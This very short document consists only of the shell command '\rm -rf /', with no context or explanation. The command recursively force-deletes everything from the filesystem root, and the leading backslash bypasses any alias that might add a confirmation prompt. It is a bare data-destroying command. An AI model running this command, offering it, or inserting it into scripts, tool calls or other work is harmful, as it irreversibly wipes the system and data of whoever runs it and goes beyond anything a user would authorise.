\rm -rf /
